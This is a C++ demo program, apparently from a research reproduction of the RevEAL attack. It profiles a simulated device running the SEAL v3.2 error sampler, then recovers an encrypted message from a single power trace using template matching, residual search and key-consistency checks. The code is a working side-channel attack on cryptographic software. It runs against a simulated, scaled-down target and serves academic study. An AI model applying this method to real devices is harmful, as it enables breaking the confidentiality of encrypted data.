// The headline demo: single-trace plaintext recovery.
//
// A victim device (simulated PicoRV32 running the SEAL v3.2 sampler)
// encrypts a secret message. The adversary sees ONLY the public key, the
// ciphertext and ONE power trace of the encryption's e2 sampling — and
// recovers the plaintext:
//   1. profile the device (adversary owns an identical one),
//   2. segment the trace, classify branches, run the template attack,
//   3. residual search with the public-value consistency oracle,
//   4. u = (c1 - e2)/p1, m = round(t(c0 - p0 u)/q)   (paper Eq. 2-3).
//
//   ./full_attack_demo

#include <cstdio>
#include <string>

#include "core/acquisition.hpp"
#include "core/attack.hpp"
#include "core/message_recovery.hpp"
#include "core/residual_search.hpp"
#include "seal/encryptor.hpp"
#include "seal/sampler.hpp"

using namespace reveal;
using namespace reveal::core;

int main() {
  std::printf("== RevEAL single-trace attack demo ==\n\n");

  // --- the victim's BFV world -------------------------------------------
  constexpr std::size_t kN = 64;  // scaled-down ring for a fast demo
  seal::EncryptionParameters parms;
  parms.set_poly_modulus_degree(kN);
  parms.set_coeff_modulus({seal::Modulus(132120577ULL)});
  parms.set_plain_modulus(256);
  const seal::Context ctx(parms);
  seal::StandardRandomGenerator rng(20260706);
  const seal::KeyGenerator keygen(ctx, rng);
  const seal::Encryptor encryptor(ctx, keygen.public_key());

  const std::string secret_text = "ATTACK AT DAWN! (RevEAL demo message.....)";
  std::vector<std::uint64_t> msg(kN, 0);
  for (std::size_t i = 0; i < secret_text.size() && i < kN; ++i) {
    msg[i] = static_cast<unsigned char>(secret_text[i]);
  }
  const seal::Plaintext plaintext(msg);

  // --- adversary: profile an identical device ----------------------------
  CampaignConfig cfg;
  cfg.n = kN;
  cfg.moduli = {132120577ULL};
  cfg.leakage.noise_sigma = 0.01;   // lab-grade probe (paper Table II regime)
  cfg.leakage.bit_deviation = 0.35;
  SamplerCampaign campaign(cfg);
  std::printf("[profiling] running the sampler on the clone device...\n");
  RevealAttack attack;
  attack.train(campaign.collect_windows(150, /*seed_base=*/1));
  std::printf("[profiling] templates built (POIs: %zu positive-side, %zu negative-side)\n",
              attack.positive_pois().size(), attack.negative_pois().size());

  // --- the victim encrypts (one power trace captured) --------------------
  // With the lab-grade acquisition nearly every trace is within the
  // residual-search budget; the loop retries on the rare exception.
  for (std::uint64_t trace_seed = 424202; ; ++trace_seed) {
    const FullCapture capture = campaign.capture(trace_seed);
    const RobustCaptureResult res =
        attack.attack_capture_robust(capture.trace, kN, cfg.segmentation);
    if (res.guesses.size() != kN) continue;

    seal::EncryptionWitness witness;
    seal::sample_poly_ternary(witness.u, rng, ctx);
    (void)seal::sample_error_poly(rng, ctx, &witness.e1);
    witness.e2 = capture.noise;  // e2 was sampled on the victim device
    const seal::Ciphertext ct = encryptor.encrypt_with_witness(plaintext, witness);

    std::printf("\n[victim] encrypted %zu-coefficient message; trace: %zu samples\n",
                kN, capture.trace.size());

    // --- the attack ------------------------------------------------------
    std::printf("[attack] segmentation: %zu/%zu coefficient windows found\n",
                res.segmentation.segments.size(), kN);
    const std::vector<CoefficientGuess>& guesses = res.guesses;

    std::size_t sign_ok = 0, value_ok = 0;
    for (std::size_t i = 0; i < kN; ++i) {
      const int truth = capture.noise[i] > 0 ? 1 : (capture.noise[i] < 0 ? -1 : 0);
      sign_ok += (guesses[i].sign == truth);
      value_ok += (guesses[i].value == capture.noise[i]);
    }
    std::printf("[attack] sign recovery: %zu/%zu; template value recovery: %zu/%zu\n",
                sign_ok, kN, value_ok, kN);

    ResidualSearchConfig rs_cfg;
    rs_cfg.max_tries = 1000000;
    const ResidualSearchResult search =
        residual_search(ctx, keygen.public_key(), ct, guesses, rs_cfg);
    std::printf("[attack] residual search: %zu uncertain coefficients, %zu candidates "
                "tested, %s\n",
                search.uncertain_count, search.tried,
                search.found ? "CONSISTENT e2 FOUND" : "budget exhausted");
    if (!search.found) {
      std::printf("[attack] this trace needs a deeper search; capturing another...\n");
      continue;
    }

    const auto recovered = recover_message(ctx, keygen.public_key(), ct, search.e2);
    if (!recovered.has_value()) {
      std::printf("[attack] consistency check failed unexpectedly\n");
      return 1;
    }
    std::string recovered_text;
    for (std::size_t i = 0; i < kN; ++i) {
      const auto c = static_cast<char>((*recovered)[i]);
      if (c == 0) break;
      recovered_text.push_back(c);
    }
    std::printf("\n[attack] RECOVERED PLAINTEXT: \"%s\"\n", recovered_text.c_str());
    std::printf("[check ] original  plaintext: \"%s\"\n", secret_text.c_str());
    std::printf("[check ] %s\n",
                *recovered == plaintext ? "exact match — full break from one trace"
                                        : "MISMATCH");
    return *recovered == plaintext ? 0 : 1;
  }
}
